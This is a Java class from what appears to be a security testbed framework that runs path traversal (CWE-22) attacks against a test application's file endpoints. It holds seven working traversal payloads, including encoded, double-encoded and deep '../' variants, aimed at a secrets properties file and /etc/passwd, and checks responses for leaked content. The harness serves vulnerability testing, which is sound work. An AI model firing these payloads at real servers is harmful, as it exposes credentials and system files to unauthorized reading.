package secplane.testbeds.attacks.injection;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Properties;
import secplane.testbeds.attacks.AttackResult;
import secplane.testbeds.attacks.Testbed;

/**
 * Path traversal (CWE-22) out of the documents directory through {@code /file/read?name=} and
 * {@code /file/download?name=}. The target is the app's {@code private/secrets.properties}, a sibling
 * of the documents directory, or {@code /etc/passwd}; the evidence is their content in the response.
 */
public final class PathTraversalAttack extends InjectionAttack {

    public enum Variant implements InjectionVariant {
        /** {@code ../} as is. */
        DOT_DOT("/file/read", "../private/secrets.properties"),
        /** Inside a real subdirectory first, then out: a prefix check on the raw name passes. */
        NESTED("/file/read", "guides/../../private/secrets.properties"),
        /** Percent-encoded dots and slashes on the wire ({@code %2e%2e%2f}); the container decodes them. */
        ENCODED("/file/read", "%2e%2e%2fprivate%2fsecrets.properties"),
        /** Enough {@code ../} to reach the root from anywhere, then a system file. */
        DEEP_ETC_PASSWD("/file/read", "../../../../../../../../../../../../etc/passwd"),
        /** An absolute path, which replaces the documents directory when resolved against it. */
        ABSOLUTE("/file/read", "<base>/private/secrets.properties"),
        /** Encoded twice ({@code %252e%252e%252f}) for the endpoint that decodes once more. */
        DOUBLE_ENCODED("/file/download", "%252e%252e%252fprivate%252fsecrets.properties"),
        /** {@code ../} at the download endpoint. */
        DOWNLOAD_DOT_DOT("/file/download", "../private/secrets.properties");

        private final String endpoint;
        private final String payload;

        Variant(String endpoint, String payload) {
            this.endpoint = endpoint;
            this.payload = payload;
        }

        @Override
        public String endpoint() {
            return endpoint;
        }

        @Override
        public String payload() {
            return payload;
        }
    }

    @Override
    public Category category() {
        return Category.PATH;
    }

    @Override
    public List<Variant> variants() {
        return List.of(Variant.values());
    }

    @Override
    public AttackResult fire(Testbed target, InjectionVariant injectionVariant, Twin twin) throws Exception {
        Variant variant = own(Variant.class, injectionVariant);
        String path = twin.path(variant.endpoint());
        String rawQuery = switch (variant) {
            // already percent-encoded as the variant wants them on the wire
            case ENCODED, DOUBLE_ENCODED -> "name=" + variant.payload();
            case ABSOLUTE -> "name=" + encode(variant.payload().replace("<base>", target.docBase().toString()));
            default -> "name=" + encode(variant.payload());
        };
        HttpResponse<String> response = getRaw(target, path, rawQuery);
        if (variant == Variant.DEEP_ETC_PASSWD) {
            String firstLine = Files.readAllLines(Path.of("/etc/passwd")).get(0);
            boolean leaked = response.body().contains(firstLine);
            return result(variant, twin, leaked, response.statusCode(), leaked
                    ? "the response holds /etc/passwd ('" + firstLine + "')"
                    : "no /etc/passwd content: " + abbreviate(response.body()));
        }
        Properties secrets = secrets(target);
        String leaked = leakedSecret(secrets, "", response.body());
        return result(variant, twin, leaked != null, response.statusCode(), leaked != null
                ? "the response holds " + SECRETS_FILE + " (" + leaked + ")"
                : "no secret in: " + abbreviate(response.body()));
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }
}
